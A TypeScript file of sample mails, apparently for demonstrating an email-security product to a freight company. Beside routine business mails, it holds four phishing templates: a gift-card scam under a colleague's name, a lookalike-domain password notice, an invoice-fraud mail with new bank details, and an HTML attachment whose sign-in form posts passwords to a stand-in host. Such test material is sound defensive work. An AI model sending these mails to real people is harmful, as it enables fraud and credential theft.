import type { TenantSimulator } from "@parapet/tenant-simulator";

type Mail = Parameters<TenantSimulator["control"]["deliver"]>[0] & object;
type Composed = Exclude<Mail, Buffer>;

/** A mail of the demonstration: what it is decides how often it comes. */
export interface Letter {
  readonly kind: "usual" | "attack";
  /** @param to whom it reaches @param number which of its kind it is */
  readonly write: (to: Recipient, number: number) => Composed;
}

export interface Recipient {
  readonly address: string;
  readonly name: string;
}

const company = "meridianfreight.com";
const sizes = ["20-foot", "40-foot", "reefer"] as const;

/** What comes to the people of a freight company; the tenant's own names and partners stand in it. */
export const letters: readonly Letter[] = [
  {
    kind: "usual",
    write: ({ address, name }, number) => ({
      from: "Grace Harbour <grace@harbourshipping.example>",
      to: address,
      subject: `Vessel schedule, week ${1 + (number % 52)}`,
      text: `Hello ${name},\n\nplease find below the departures of this week. The Solstice leaves on Tuesday, the Meridian Star on Friday.\n\nKind regards\nGrace Harbour\nHarbour & Sons Shipping`,
    }),
  },
  {
    kind: "usual",
    write: ({ address, name }, number) => ({
      from: "Anke Vogt <anke.vogt@nordlicht-spedition.example>",
      to: address,
      subject: `Abholung ${4_100 + number}`,
      text: `Guten Tag ${name},\n\ndie Abholung ist für morgen um 9 Uhr bestätigt. Der Fahrer meldet sich eine Stunde vorher.\n\nViele Grüße\nAnke Vogt`,
    }),
  },
  {
    kind: "usual",
    write: ({ address, name }, number) => ({
      from: "Karim Benali <k.benali@atlas-douane.example>",
      to: address,
      subject: `Déclaration ${20_800 + number}`,
      text: `Bonjour ${name},\n\nla déclaration est acceptée, la marchandise peut partir. Je vous envoie le document original par la poste.\n\nCordialement\nKarim Benali`,
    }),
  },
  {
    kind: "usual",
    write: ({ address }, number) => ({
      from: `Tomás Herrera <tomas.herrera@${company}>`,
      to: address,
      subject: `Notes of the planning meeting (${number})`,
      text: `Hello all,\n\nwe agreed on three ${sizes[number % 3] ?? ""} containers for the next departure. Please add what I forgot to the shared list.\n\nTomás`,
    }),
  },
  {
    kind: "usual",
    write: ({ address }, number) => ({
      from: '"Port News" <news@newsletter.example>',
      to: address,
      subject: `Port News, issue ${310 + number}`,
      html: '<h1>Port News</h1><p>Throughput in the northern ports grew by two percent. <a href="https://newsletter.example/issues/latest">Read on</a></p><p><a href="https://newsletter.example/leave">Unsubscribe</a></p>',
      headers: { "List-Unsubscribe": "<https://newsletter.example/leave>", Precedence: "bulk" },
    }),
  },
  {
    // A colleague's name from a stranger's address.
    kind: "attack",
    write: ({ address, name }) => ({
      from: '"Ingrid Solheim" <ingrid.solheim.office@freemail.example>',
      to: address,
      subject: "Quick favour",
      text: `${name}, are you at your desk? I am in a meeting and need you to buy gift cards for a client today. Send me the codes by mail, I will pay you back tonight. Keep this between us.\n\nIngrid Solheim\nSent from my phone`,
    }),
  },
  {
    // A domain that looks like the company's.
    kind: "attack",
    write: ({ address }) => ({
      from: '"IT Service Desk" <helpdesk@meridlanfreight.com>',
      to: address,
      subject: "Your mailbox is almost full",
      html: `<p>Your mailbox has reached 98 % of its size. Verify your account password within 24 hours, or mail will be returned.</p><p><a href="https://login.account-verify.example/?u=${encodeURIComponent(address)}">portal.${company}</a></p>`,
    }),
  },
  {
    // A partner's domain with a letter missing, and another account.
    kind: "attack",
    write: ({ address, name }, number) => ({
      from: '"Grace Harbour" <grace@harbourshiping.example>',
      to: address,
      subject: `Invoice ${7_000 + number}: new bank details`,
      text: `Dear ${name},\n\nour bank is under audit. Please pay the open invoice of EUR 48,250 to our new account IBAN GB29NWBK60161331926819 today and send me the confirmation.\n\nGrace Harbour\nHarbour & Sons Shipping`,
    }),
  },
  {
    // A page that asks for a password, as an attachment.
    kind: "attack",
    write: ({ address }) => ({
      from: '"Document Share" <share@account-verify.example>',
      to: address,
      subject: "You received a secure document",
      text: "Open the attached page to read the document. It expires today.",
      attachments: [
        {
          filename: "Secure_Document.html",
          contentType: "text/html",
          content: `<html><body><h3>Microsoft 365</h3><form action="https://login.account-verify.example/post" method="post"><input name="mail" value="${address}"><input type="password" name="password"><button>Sign in</button></form></body></html>`,
        },
      ],
    }),
  },
];
